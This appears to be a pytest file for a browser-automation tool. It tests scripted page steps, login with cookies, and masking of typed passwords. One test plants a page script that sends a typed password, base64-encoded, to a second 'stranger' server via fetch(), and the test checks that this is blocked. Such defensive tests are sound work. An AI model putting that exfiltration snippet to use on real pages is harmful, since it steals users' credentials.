"""Steps in the browser: what they reach, what they may not, and how they fail."""

from __future__ import annotations

import html
import json
from typing import Any

import pytest

from tests.fakes import Page, Seen, WebServer, Wire, response
from tidings.fetching.browser.steps import SHOWN, Typed
from tidings.fetching.browser.visit import treatment
from tidings.model.observed.outcome import Failed, Fetched, PlayedStep
from tidings.model.secret import Secret

HTML = {"Content-Type": "text/html; charset=utf-8"}
PASSWORD = "k3ttle & spoon"
FORM = """<!doctype html><title>Log in</title><form method=post action=/in>
<input id=user name=user><input id=pw type=password name=pw><button>Go</button></form>"""
SHOP = """<!doctype html><title>Shop</title><button id=more>More</button>
<select id=size><option>Small<option>Large</select>
<ul id=list><li>one</ul><p hidden id=no>hidden</p><script>
more.onclick = () => setTimeout(() => list.insertAdjacentHTML("beforeend", "<li class=new>two</li>"), 50);
size.onchange = () => list.insertAdjacentHTML("beforeend", `<li>${size.value}</li>`);
document.onkeydown = (event) => { document.title = event.key; };
</script>"""


def played(verb: Any, place: str = "", value: str | Secret = "") -> PlayedStep:
    shown = "secret" if isinstance(value, Secret) else value
    return PlayedStep(f"{verb} {place} {shown}".strip(), verb, place, value)


def test_steps_are_done_in_their_order_and_the_page_is_read_after_them(chromium, server):
    """What a click adds, a choice and a key are in what is watched."""
    server.pages["/"] = Page(SHOP.encode(), HTML)

    seen = chromium.render(
        server.url("/"),
        steps=(
            played("click", "text=more"),
            played("wait", "css=.new"),
            played("select", "css=#size", "Large"),
            played("press", "", "Tab"),
            played("scroll"),
        ),
    )

    assert isinstance(seen, Fetched), seen
    assert '<li>one</li><li class="new">two</li><li>Large</li>' in seen.body.decode().replace("\n", "")


@pytest.mark.parametrize(
    ("place", "why"),
    [("css=#gone", "the page has nothing at that place"), ("css=#no", "one thing is there, but is hidden")],
)
def test_a_step_that_cannot_be_done_is_named_with_what_the_page_says(chromium, server, monkeypatch, place, why):
    """Nothing is compared then: half a page is none."""
    monkeypatch.setattr("tidings.fetching.browser.steps.STEP_SECONDS", 0.3)
    server.pages["/"] = Page(SHOP.encode(), HTML)

    seen = chromium.render(server.url("/"), steps=(played("press", "", "Tab"), played("click", place)))

    assert isinstance(seen, Failed)
    assert f"step 2 of 2, click {place}: {why}" in seen.reason
    assert "The page “Tab” says: More" in seen.reason
    assert "request" == seen.kind


def test_a_login_by_steps_keeps_its_cookie_and_leads_to_the_page_behind(chromium, server):
    """The redirect of a form is followed with its cookie; the password is in no other request."""

    def enter(seen: Seen, wire: Wire) -> None:
        head = {"Location": "/mine", "Set-Cookie": "sid=1; Path=/; HttpOnly"}
        wire.send(response(Page(b"", head, status=303), seen))

    def mine(seen: Seen, wire: Wire) -> None:
        is_in = "sid=1" in seen.headers.get("cookie", "")
        text = f"<title>Mine</title><p>{'Orders: 3' if is_in else 'stranger'}<p>not {PASSWORD}<a href=next>next</a>"
        wire.send(response(Page(text.replace("&", "&amp;").encode(), HTML), seen))

    server.pages |= {"/": Page(FORM.encode(), HTML), "/in": enter, "/mine": mine}

    seen = chromium.render(
        server.url("/"),
        steps=(
            played("fill", "css=#user", "anna"),
            played("fill", "css=#pw", Secret(PASSWORD)),
            played("press", "css=#pw", "Enter"),
            played("wait", "text=Orders"),
        ),
    )

    assert isinstance(seen, Fetched), seen
    assert "Orders: 3" in seen.body.decode()
    assert "not ***" in seen.body.decode()
    assert server.url("/mine") == seen.final_url
    assert ["GET /", "POST /in", "GET /mine"] == [f"{asked.method} {asked.path}" for asked in server.seen]
    assert ["/in"] == [asked.path for asked in server.seen if b"k3ttle" in asked.body or "k3ttle" in asked.target]


@pytest.mark.parametrize(("value", "is_sent"), [("yes", True), (PASSWORD, False)])
def test_a_cookie_that_a_script_sets_is_sent_along(chromium, server, value, is_sent):
    """A click that sets a cookie opens the page behind; a typed secret is in no cookie."""
    script = f"document.cookie = {json.dumps('told=' + value + '; path=/')}; location = '/behind'"
    page = f'{FORM}<button id=ok onclick="{html.escape(script)}">OK</button>'
    server.pages |= {"/": Page(page.encode(), HTML), "/behind": Page(b"<p>Behind</p>", HTML)}

    seen = chromium.render(
        server.url("/"),
        steps=(
            played("fill", "css=#pw", Secret(PASSWORD)),
            played("click", "css=#ok"),
            played("wait", "text=Behind"),
        ),
    )

    assert isinstance(seen, Fetched), seen
    assert is_sent is ("told=" in server.seen[-1].headers.get("cookie", ""))


def test_after_a_secret_was_typed_nobody_else_is_asked(chromium):
    """Nothing carries it off: no request of a script, no form, no address of the page."""
    with WebServer() as home, WebServer() as stranger:
        taken = f"fetch('{stranger.url('/taken')}?' + btoa(pw.value), {{mode: 'no-cors'}})"
        script = f"<script>pw.oninput = () => {taken};</script>"
        elsewhere = FORM.replace("/in", stranger.url("/in"))
        by_address = FORM.replace("method=post", "method=get")
        home.pages |= {
            "/": Page((FORM + script).encode(), HTML),
            "/elsewhere": Page(elsewhere.encode(), HTML),
            "/get": Page(by_address.encode(), HTML),
        }
        stranger.pages |= {"/taken": Page(b"ok"), "/in": Page(b"ok", HTML)}
        steps = (played("fill", "css=#pw", Secret(PASSWORD)), played("press", "css=#pw", "Enter"))
        # another port of this machine is another origin
        quiet = chromium.render(home.url("/"), steps=steps[:1])
        form = chromium.render(home.url("/elsewhere"), steps=steps)
        written = chromium.render(home.url("/get"), steps=steps)

        assert isinstance(quiet, Fetched), quiet
        assert isinstance(form, Failed)
        assert "step 2 of 2, press css=#pw Enter: after a secret was typed, requests go only to" in form.reason
        assert isinstance(written, Failed)
        assert "puts the typed secret into an address" in written.reason
        assert [] == stranger.seen
        assert [] == [asked.target for asked in home.seen if "k3ttle" in asked.target]


@pytest.mark.parametrize(
    ("method", "steps", "expected"),
    [
        ("GET", False, "move"),
        ("POST", False, "refuse"),
        ("GET", True, "follow"),
        ("POST", True, "follow"),
        ("PUT", True, "refuse"),
    ],
)
def test_only_steps_lead_a_page_through_a_form(method, steps, expected):
    """A script alone sends a page on by GET, and nothing else."""
    assert expected == treatment("document", method, is_page=True, pictures=False, steps=steps)


def test_what_was_typed_is_masked_in_each_of_its_forms():
    """As it is, as HTML, JSON and addresses have it."""
    typed = Typed()
    typed.add(Secret(PASSWORD))
    typed.add(Secret('a"b<c\u00a0é'))

    assert "a *** b *** c ***" == typed.mask(f"a {PASSWORD} b k3ttle &amp; spoon c k3ttle+%26+spoon")
    assert "*** *** *** ***" == typed.mask(
        r'a"b&lt;c&nbsp;é a&quot;b<c&nbsp;é a\"b<c\u00a0\u00e9 a%22b%3Cc%C2%A0%C3%A9'
    )
    assert typed.is_in("https://x.example/?q=k3ttle%20%26%20spoon")
    assert not typed.is_in("https://x.example/?q=k3ttle")


def test_a_secret_that_is_a_part_of_another_leaves_nothing_of_it():
    """The longer one is masked first, whichever was typed first."""
    typed = Typed()
    typed.add(Secret("kettle"))
    typed.add(Secret("kettle-17"))

    assert "*** ***" == typed.mask("kettle-17 kettle")


def test_a_failure_shows_no_beginning_of_a_secret(chromium, server, monkeypatch):
    """The first words of the page end within it; it is masked before they are cut."""
    monkeypatch.setattr("tidings.fetching.browser.steps.STEP_SECONDS", 0.3)
    words = "x" * (SHOWN - 10)
    echo = f"<div id=out></div><script>pw.oninput = () => {{ out.textContent = '{words} ' + pw.value; }};</script>"
    server.pages["/"] = Page((FORM + echo).encode(), HTML)
    steps = (played("fill", "css=#pw", Secret(PASSWORD)), played("click", "css=#gone"))

    seen = chromium.render(server.url("/"), steps=steps)

    assert isinstance(seen, Failed)
    assert "xxx" in seen.reason
    assert "k3t" not in seen.reason


@pytest.mark.parametrize(("field", "is_kept"), [("css=#pw", True), ("css=#user", False)])
def test_a_picture_of_a_typed_secret_is_not_kept(chromium, server, field, is_kept):
    """A field for passwords shows dots, another one what was typed."""
    server.pages["/"] = Page(FORM.encode(), HTML)

    seen = chromium.render(server.url("/"), screenshot=True, steps=(played("fill", field, Secret(PASSWORD)),))

    assert isinstance(seen, Fetched), seen
    assert is_kept == bool(seen.screenshot)
